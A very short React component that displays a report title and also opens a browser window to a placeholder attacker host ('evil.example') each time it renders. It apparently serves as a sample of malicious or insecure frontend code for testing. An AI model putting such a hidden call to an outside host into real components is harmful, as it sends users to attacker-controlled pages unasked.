export default function Report({ data }) {
  const w = window.open("https://evil.example");
  return <p>{data.title}</p>;
}
